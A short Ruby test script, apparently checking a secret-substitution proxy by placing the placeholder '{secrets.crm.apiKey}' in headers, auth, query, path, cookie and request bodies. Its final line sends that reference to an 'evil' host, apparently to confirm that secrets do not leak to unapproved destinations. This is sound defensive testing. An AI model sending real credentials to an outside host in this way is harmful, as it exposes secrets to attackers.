# Ruby's Net::HTTP.
require 'json'
require 'net/http'

base, evil = ARGV
REF = '{secrets.crm.apiKey}'.freeze

def send_to(url, fields = {}, body = nil)
  uri = URI(url)
  request = (body ? Net::HTTP::Post : Net::HTTP::Get).new(uri, fields)
  request.body = body if body
  yield request if block_given?
  Net::HTTP.start(uri.host, uri.port, use_ssl: true) { |http| http.request(request) }
end

def ok(...)
  answer = send_to(...)
  raise answer.body unless answer.code == '200'
end

# Ruby's URI takes no braces; they are percent-encoded.
encoded = URI.encode_www_form_component(REF)
ok "#{base}/header", { 'X-Api-Key' => REF }
ok "#{base}/bearer", { 'Authorization' => "Bearer #{REF}" }
ok "#{base}/query?k=#{encoded}"
ok "#{base}/path/#{encoded}/x"
ok("#{base}/basic") { |request| request.basic_auth 'me', REF }
ok "#{base}/cookie", { 'Cookie' => "s=#{REF}" }
ok "#{base}/json", { 'Content-Type' => 'application/json' }, JSON.generate(k: REF)
ok "#{base}/form", { 'Content-Type' => 'application/x-www-form-urlencoded' }, URI.encode_www_form(k: REF)
puts send_to("#{evil}/", { 'X' => REF }).body
